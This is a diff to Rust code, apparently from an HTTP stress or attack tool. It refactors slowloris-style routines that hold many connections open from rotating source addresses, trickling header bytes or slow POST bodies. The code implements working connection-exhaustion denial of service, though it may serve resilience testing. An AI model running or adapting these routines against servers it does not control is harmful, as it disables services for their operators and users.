@@ -29,19 +29,19 @@ pub(super) struct Script {
 
 pub(super) fn silent(target: &Target) -> Result<Requests, AttackError> {
     let (_, to) = target.http()?;
-    held(target, "silent", to, Script { first: Vec::new(), then: Vec::new(), every: SILENT })
+    held(target, "silent", to, vec![Script { first: Vec::new(), then: Vec::new(), every: SILENT }])
 }
 
 pub(super) fn slow_heads(target: &Target) -> Result<Requests, AttackError> {
     let (url, to) = target.plain_http()?;
     let first = format!("POST {} HTTP/1.1\r\nHost: {}\r\nX-Slow: ", url.path(), host(&url)).into_bytes();
-    held(target, "slow-heads", to, Script { first, then: b"a".to_vec(), every: SLOW })
+    held(target, "slow-heads", to, vec![Script { first, then: b"a".to_vec(), every: SLOW }])
 }
 
 pub(super) fn slow_bodies(target: &Target) -> Result<Requests, AttackError> {
     let (url, to) = target.plain_http()?;
     let first = format!("{}Content-Length: 4000\r\n\r\nv=0\r\n", post(&url, target)).into_bytes();
-    held(target, "slow-bodies", to, Script { first, then: b"a".to_vec(), every: SLOW })
+    held(target, "slow-bodies", to, vec![Script { first, then: b"a".to_vec(), every: SLOW }])
 }
 
 /// The head of a POST to the URL, without its end.
@@ -56,9 +56,9 @@ fn host(url: &Url) -> String {
     url.port().map_or(host.to_owned(), |port| format!("{host}:{port}"))
 }
 
-/// Opens connections at the rate, from all addresses by turns, and keeps each for as long as the server does.
-pub(super) fn held(target: &Target, name: &str, to: SocketAddr, script: Script) -> Result<Requests, AttackError> {
-    let (from, most, script) = (attackers(to.ip()), target.connections, Arc::new(script));
+/// Opens connections at the rate, from all addresses and with all scripts by turns, and keeps each for as long as the server does.
+pub(super) fn held(target: &Target, name: &str, to: SocketAddr, scripts: Vec<Script>) -> Result<Requests, AttackError> {
+    let (from, most, scripts) = (attackers(to.ip()), target.connections, Arc::new(scripts));
     let open = Arc::new(AtomicUsize::new(0));
     Requests::start(name, target.requests, move |mut turns, tally| async move {
         let mut turn = 0;
@@ -70,12 +70,12 @@ pub(super) fn held(target: &Target, name: &str, to: SocketAddr, script: Script) 
                 open.fetch_add(1, Ordering::Relaxed);
                 turn += 1;
                 let from = from[turn % from.len()];
-                let (script, tally, open) = (Arc::clone(&script), tally.clone(), Arc::clone(&open));
+                let (scripts, tally, open) = (Arc::clone(&scripts), tally.clone(), Arc::clone(&open));
                 tokio::spawn(async move {
                     match connect(from, to).await {
                         Ok(stream) => {
                             tally.counts().connections += 1;
-                            play(stream, &script, &tally).await;
+                            play(stream, &scripts[turn % scripts.len()], &tally).await;
                             tally.counts().closed += 1;
                         }
                         Err(_) => *tally.counts().answers.entry("none".into()).or_default() += 1,
